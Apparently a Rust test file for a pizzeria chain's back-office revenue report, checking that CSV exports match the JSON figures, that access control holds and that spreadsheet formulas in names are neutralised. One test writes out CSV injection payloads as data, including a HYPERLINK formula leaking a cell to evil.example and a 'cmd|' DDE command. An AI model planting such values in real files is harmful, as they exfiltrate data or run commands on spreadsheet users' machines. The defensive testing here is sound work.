    ("CA HT (€)", "/revenue_excl_vat_cents"),
    ("TVA (€)", "/vat_cents"),
    ("CA TTC (€)", "/revenue_incl_vat_cents"),
    ("Remboursements TTC (€)", "/refunds_cents"),
    ("Panier moyen TTC (€)", "/average_basket_cents"),
    (
        "Carte bancaire : commandes",
        "/by_payment_method/card/orders",
    ),
    (
        "Carte bancaire : CA TTC (€)",
        "/by_payment_method/card/revenue_cents",
    ),
    ("Espèces : commandes", "/by_payment_method/cash/orders"),
    (
        "Espèces : CA TTC (€)",
        "/by_payment_method/cash/revenue_cents",
    ),
    ("En ligne : commandes", "/by_channel/web/orders"),
    ("En ligne : CA TTC (€)", "/by_channel/web/revenue_cents"),
    ("Téléphone : commandes", "/by_channel/phone/orders"),
    ("Téléphone : CA TTC (€)", "/by_channel/phone/revenue_cents"),
    ("Comptoir : commandes", "/by_channel/counter/orders"),
    ("Comptoir : CA TTC (€)", "/by_channel/counter/revenue_cents"),
];

/// One row's figures, read as a spreadsheet does, by JSON path.
fn figures_of(header: &[String], row: &[String]) -> BTreeMap<&'static str, i64> {
    assert_eq!(row.len(), header.len(), "{row:?}");
    FIGURE_COLUMNS
        .iter()
        .map(|(name, path)| {
            let at = header
                .iter()
                .position(|h| h == name)
                .unwrap_or_else(|| panic!("no column {name:?} in {header:?}"));
            (*path, spreadsheet_number(&row[at], name.ends_with("(€)")))
        })
        .collect()
}

/// The same figures from the JSON report.
fn figures_in(json: &Value) -> BTreeMap<&'static str, i64> {
    FIGURE_COLUMNS
        .iter()
        .map(|(_, path)| {
            let value = json.pointer(path).and_then(Value::as_i64);
            (*path, value.unwrap_or_else(|| panic!("{path} in {json}")))
        })
        .collect()
}

/// Sums of rows, as a spreadsheet's SUM over a column (the average basket
/// does not add up: left out).
fn summed<'a>(
    rows: impl Iterator<Item = &'a BTreeMap<&'static str, i64>>,
) -> BTreeMap<&'static str, i64> {
    let mut sums = BTreeMap::new();
    for row in rows {
        for (path, value) in row {
            *sums.entry(*path).or_insert(0) += value;
        }
    }
    sums.remove("/average_basket_cents");
    sums
}

fn without_average(mut figures: BTreeMap<&'static str, i64>) -> BTreeMap<&'static str, i64> {
    figures.remove("/average_basket_cents");
    figures
}

/// Reads an export as a French spreadsheet would and checks it against the
/// JSON report of the same query: each pizzeria's days sum to its `Total`
/// row and to the JSON's figures for it, each day's rows sum to the JSON's
/// day, HT + TVA = TTC on every row, and for all pizzerias the days of every
/// pizzeria sum to the last row, the JSON's totals. Answers the pizzerias
/// that have rows.
fn check_export(body: &[u8], report: &Value) -> Vec<i64> {
    let rows = spreadsheet_rows(body);
    let header = &rows[0];
    assert_eq!(&header[..3], ["Date", "N° pizzeria", "Pizzeria"]);
    let mut days: Vec<(String, i64, BTreeMap<&'static str, i64>)> = Vec::new();
    let mut totals: BTreeMap<i64, BTreeMap<&'static str, i64>> = BTreeMap::new();
    let mut all = None;
    for row in &rows[1..] {
        let figures = figures_of(header, row);
        assert_eq!(
            figures["/revenue_excl_vat_cents"] + figures["/vat_cents"],
            figures["/revenue_incl_vat_cents"],
            "HT + TVA = TTC: {row:?}"
        );
        match (row[0].as_str(), row[1].as_str()) {
            ("Total", "") => {
                assert_eq!(row[2], "Toutes les pizzerias");
                assert!(all.replace(figures).is_none(), "one total of all pizzerias");
            }
            ("Total", id) => {
                totals.insert(id.parse().unwrap(), figures);
            }
            (date, id) => {
                assert!(
                    chrono::NaiveDate::parse_from_str(date, "%Y-%m-%d").is_ok(),
                    "{row:?}"
                );
                days.push((date.to_owned(), id.parse().unwrap(), figures));
            }
        }
    }
    let pizzerias = report["pizzerias"].as_array().unwrap();
    assert_eq!(totals.len(), pizzerias.len());
    for p in pizzerias {
        let id = p["pizzeria_id"].as_i64().unwrap();
        let own = days.iter().filter(|(_, of, _)| *of == id).map(|(.., f)| f);
        assert_eq!(
            summed(own),
            without_average(totals[&id].clone()),
            "pizzeria {id}"
        );
        assert_eq!(totals[&id], figures_in(p), "pizzeria {id}");
    }
    for day in report["days"].as_array().unwrap() {
        let date = day["date"].as_str().unwrap();
        let rows = days.iter().filter(|(d, ..)| d == date).map(|(.., f)| f);
        assert_eq!(summed(rows), without_average(figures_in(day)), "{date}");
    }
    let everything = summed(days.iter().map(|(.., f)| f));
    assert_eq!(everything, without_average(figures_in(&report["totals"])));
    match report["pizzeria_id"].as_i64() {
        None => assert_eq!(
            all.expect("a total of all pizzerias"),
            figures_in(&report["totals"])
        ),
        Some(id) => {
            assert!(all.is_none(), "one pizzeria: its own total is the last row");
            assert_eq!(totals[&id], figures_in(&report["totals"]));
        }
    }
    totals.into_keys().collect()
}

async fn export(
    state: &backoffice::State,
    query: &str,
    bearer: &str,
) -> (StatusCode, String, Vec<u8>) {
    let response = backoffice::handle(
        state,
        request(
            "GET",
            &format!("/reports/revenue?{query}&format=csv"),
            None,
            Some(bearer),
        ),
    )
    .await;
    let disposition = response
        .headers()
        .get(http::header::CONTENT_DISPOSITION)
        .map(|v| v.to_str().unwrap().to_owned())
        .unwrap_or_default();
    (response.status(), disposition, response.body().to_vec())
}

/// The export read as a French spreadsheet reads it gives the JSON report's
/// figures, for all pizzerias (the admin, `pizzeria_id=all` or none) and for
/// one; a manager gets their own pizzeria's and nothing else.
#[sqlx::test(migrations = "../../migrations")]
async fn a_french_spreadsheet_reads_the_export_as_the_json_report(pool: MySqlPool) {
    let state = setup(&pool).await;
    known_orders(&pool).await;
    let admin = token(&pool, "admin@ocpizza.test").await;
    let manager = token(&pool, "manager.1@ocpizza.test").await;
    let period = "from=2026-03-28&to=2026-03-30";

    for scope in ["pizzeria_id=all&", ""] {
        let (status, report) = call(
            &state,
            "GET",
            &format!("/reports/revenue?{scope}{period}"),
            None,
            Some(&admin),
        )
        .await;
        assert_eq!(status, StatusCode::OK, "{report}");
        assert!(report["pizzeria_id"].is_null());
        assert_eq!(report["totals"]["revenue_incl_vat_cents"], 12000);
        let (status, disposition, body) = export(&state, &format!("{scope}{period}"), &admin).await;
        assert_eq!(status, StatusCode::OK);
        assert_eq!(
            disposition,
            "attachment; filename=\"chiffre-affaires_toutes-pizzerias_2026-03-28_2026-03-30.csv\""
        );
        // Every pizzeria of the group has its rows, sales or not.
        let pizzerias = check_export(&body, &report);
        assert_eq!(pizzerias, (1..=8).collect::<Vec<i64>>());
    }

    // The admin's and the manager's export of one pizzeria.
    for bearer in [&admin, &manager] {
        let (status, report) = call(
            &state,
            "GET",
            &format!("/reports/revenue?pizzeria_id=1&{period}"),
            None,
            Some(bearer),
        )
        .await;
        assert_eq!(status, StatusCode::OK, "{report}");
        let (status, disposition, body) =
            export(&state, &format!("pizzeria_id=1&{period}"), bearer).await;
        assert_eq!(status, StatusCode::OK);
        assert_eq!(
            disposition,
            "attachment; filename=\"chiffre-affaires_pizzeria-1-oc-pizza-lyon-presqu-ile_2026-03-28_2026-03-30.csv\""
        );
        assert_eq!(check_export(&body, &report), [1]);
    }

    // A manager asks for all pizzerias, or another one: refused, JSON or CSV.
    for scope in ["pizzeria_id=all&", "", "pizzeria_id=2&"] {
        let (status, body) = call(
            &state,
            "GET",
            &format!("/reports/revenue?{scope}{period}"),
            None,
            Some(&manager),
        )
        .await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{scope}: {body}");
        let (status, disposition, body) =
            export(&state, &format!("{scope}{period}"), &manager).await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{scope}");
        assert!(disposition.is_empty(), "{scope}: no file");
        let problem: Value = serde_json::from_slice(&body).unwrap();
        assert_eq!(problem["type"], "/problems/forbidden");
        if !scope.contains('2') {
            assert!(
                problem["detail"]
                    .as_str()
                    .unwrap()
                    .contains("pizzeria_id=1"),
                "{problem}"
            );
        }
    }
    // Other staff, and nobody, neither.
    let cashier = token(&pool, "cashier.1@ocpizza.test").await;
    let (status, ..) = export(&state, &format!("pizzeria_id=all&{period}"), &cashier).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let response = backoffice::handle(
        &state,
        request(
            "GET",
            &format!("/reports/revenue?pizzeria_id=all&{period}&format=csv"),
            None,
            None,
        ),
    )
    .await;
    assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
}

/// A pizzeria name made to be run by a spreadsheet comes out as text in the
/// CSV export (OWASP's CSV injection advice: a leading `'` on a cell starting
/// with `=`, `+`, `-`, `@`, tab or carriage return). Names are the export's
/// only text from the database; product names do not reach it.
#[sqlx::test(migrations = "../../migrations")]
async fn revenue_csv_neutralises_formulas_in_names(pool: MySqlPool) {
    let state = setup(&pool).await;
    known_orders(&pool).await;
    let hyperlink = r#"=HYPERLINK("http://evil.example/?d="&A1,"Détails")"#;
    let names = [
        (1, hyperlink),
        (2, "@SUM(1+1)"),
        (3, "+33 4 72 00 00 00"),
        (4, "-2+3+cmd|' /C calc'!A0"),
        (5, "\tTabulée"),
        (6, "\rRetour"),
        (7, "OC Pizza =Lyon- +@"),
    ];
    for (id, name) in names {
        sqlx::query("UPDATE pizzerias SET name = ? WHERE id = ?")
            .bind(name)
            .bind(id)
            .execute(&pool)
            .await
            .unwrap();
    }
    sqlx::query("UPDATE products SET name = ? WHERE id = ?")
        .bind(r#"=HYPERLINK("http://evil.example/","Margherita")"#)
        .bind(MARGHERITA)
        .execute(&pool)
        .await
        .unwrap();
    let admin = token(&pool, "admin@ocpizza.test").await;
    let response = backoffice::handle(
        &state,
        request(
            "GET",
            "/reports/revenue?from=2026-03-28&to=2026-03-30&format=csv",
            None,
            Some(&admin),
        ),
    )
    .await;
    assert_eq!(response.status(), StatusCode::OK);
    let text = String::from_utf8(response.body().to_vec()).unwrap();
    // The cell as written: quoted (it holds quotes), then the `'`.
    assert!(
        text.contains(
            "\r\n2026-03-28;1;\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Détails\"\")\";2;39,09;"
        ),
        "{text}"
    );
    assert!(
        !text.contains("Margherita"),
        "a product name reached the export: {text}"
    );
    let rows = spreadsheet_rows(text.as_bytes());
    assert_eq!(rows.len(), 1 + 8 * 3 + 8 + 1);
    let width = rows[0].len();
    let mut seen = std::collections::BTreeMap::new();
    for row in &rows[1..] {
        assert_eq!(row.len(), width, "{row:?}");
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
        seen.insert(row[1].clone(), row[2].clone());
    }
    for (id, name) in names {
        let expected = if id == 7 {
            name.to_owned() // the characters are inside, not leading
        } else {
            format!("'{name}")
        };
        assert_eq!(seen[&id.to_string()], expected, "pizzeria {id}");
    }
    // The JSON report keeps the names as they are.
    let (status, json) = call(
        &state,
        "GET",
        "/reports/revenue?from=2026-03-28&to=2026-03-30",
        None,
        Some(&admin),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let first = json["pizzerias"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["pizzeria_id"] == 1)
        .unwrap();
    assert_eq!(first["name"], hyperlink);
}

/// `events/backoffice-revenue.json` is a real function-URL payload that this
/// function answers, once its placeholder token is replaced.
#[sqlx::test(migrations = "../../migrations")]
async fn the_sample_event_is_answered(pool: MySqlPool) {
    let state = setup(&pool).await;
    let path = format!(
        "{}/../../events/backoffice-revenue.json",
        env!("CARGO_MANIFEST_DIR")
    );
    let text = std::fs::read_to_string(&path).expect("event file");
    let as_is = lambda_http::request::from_str(&text).expect("a function URL event");
    assert_eq!(
        backoffice::handle(&state, as_is).await.status(),
        StatusCode::UNAUTHORIZED
    );
    let manager = token(&pool, "manager.1@ocpizza.test").await;
    let text = text.replace("REPLACE_WITH_A_TOKEN", &manager);
    let req = lambda_http::request::from_str(&text).expect("a function URL event");
    let response = backoffice::handle(&state, req).await;
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(json_of(&response)["pizzeria_id"], 1);
}
